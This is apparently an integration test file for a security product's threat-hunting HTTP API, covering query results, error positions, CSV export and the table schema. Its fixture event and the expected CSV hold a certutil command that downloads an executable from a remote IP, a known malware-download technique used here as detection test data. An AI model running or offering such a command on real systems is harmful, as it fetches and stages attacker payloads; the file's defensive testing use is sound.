//! Hunting over HTTP: the answer's shape, query errors as 400 with the
//! position, CSV export, and the schema.

mod support;

use serde_json::{Value, json};
use vigil_core::identity::{Principal, Role};
use vigil_service::{Intake, Record};

async fn app_with_events() -> (support::TestApp, String) {
    let app = support::spawn_app().await;
    let op = Principal::Operator("test".into());
    let line = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-27T08:00:00.000000Z"}},"EventRecordID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.7/p.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"CORP\\alice"}}}"##;
    app.service
        .ingest(
            &op,
            Some("acme"),
            Intake {
                source: "test".into(),
                records: vec![Record {
                    at: vigil_service::At::Line(1),
                    bytes: line.as_bytes().to_vec(),
                }],
                ..Default::default()
            },
        )
        .await
        .expect("ingest");
    let token = app
        .user("analyst@provider.example", Role::Analyst, None)
        .await;
    (app, token)
}

#[tokio::test]
async fn a_hunt_answers_columns_rows_and_stats() {
    let (app, token) = app_with_events().await;
    let r = app
        .client()
        .post(app.url("/api/v1/tenants/acme/hunt"))
        .bearer_auth(&token)
        .json(&json!({"query": "DeviceProcessEvents | where FileName =~ 'certutil.exe' | project Timestamp, DeviceName, AccountName"}))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.expect("json");
    assert_eq!(
        body["columns"],
        json!([{"name":"Timestamp","type":"datetime"},{"name":"DeviceName","type":"string"},{"name":"AccountName","type":"string"}])
    );
    assert_eq!(
        body["rows"],
        json!([["2026-11-27T08:00:00.000000Z", "ws-01", "alice"]])
    );
    assert_eq!(body["stats"]["rows"], 1);
    assert_eq!(body["stats"]["truncated"], false);
    assert_eq!(body["stats"]["lookback"], "7d");
}

#[tokio::test]
async fn a_query_error_is_a_400_naming_the_position() {
    let (app, token) = app_with_events().await;
    let r = app
        .client()
        .post(app.url("/api/v1/tenants/acme/hunt"))
        .bearer_auth(&token)
        .json(&json!({"query": "DeviceProcessEvents | summarize count() DeviceName"}))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 400);
    let body: Value = r.json().await.expect("json");
    assert_eq!(body["error"]["code"], "query_error");
    assert_eq!(
        body["error"]["message"],
        "expected `by` or end of `summarize`, found `DeviceName` at 1:41"
    );
}

#[tokio::test]
async fn a_hunt_exports_as_csv() {
    let (app, token) = app_with_events().await;
    let r = app
        .client()
        .post(app.url("/api/v1/tenants/acme/hunt?format=csv"))
        .bearer_auth(&token)
        .json(&json!({"query": "DeviceProcessEvents | project DeviceName, ProcessCommandLine"}))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .expect("type")
            .starts_with("text/csv")
    );
    assert_eq!(
        r.text().await.expect("text"),
        "DeviceName,ProcessCommandLine\r\nws-01,certutil -urlcache -f http://203.0.113.7/p.exe\r\n"
    );
}

#[tokio::test]
async fn the_schema_lists_every_hunting_table() {
    let (app, token) = app_with_events().await;
    let body: Value = app
        .client()
        .get(app.url("/api/v1/hunt/schema"))
        .bearer_auth(&token)
        .send()
        .await
        .expect("send")
        .json()
        .await
        .expect("json");
    let names: Vec<&str> = body["tables"]
        .as_array()
        .expect("tables")
        .iter()
        .filter_map(|t| t["name"].as_str())
        .collect();
    for t in [
        "DeviceProcessEvents",
        "DeviceNetworkEvents",
        "DeviceFileEvents",
        "DeviceRegistryEvents",
        "DeviceLogonEvents",
        "DeviceEvents",
        "IdentityLogonEvents",
        "EmailEvents",
        "CloudAppEvents",
        "AlertInfo",
        "AlertEvidence",
    ] {
        assert!(names.contains(&t), "{t}");
    }
}
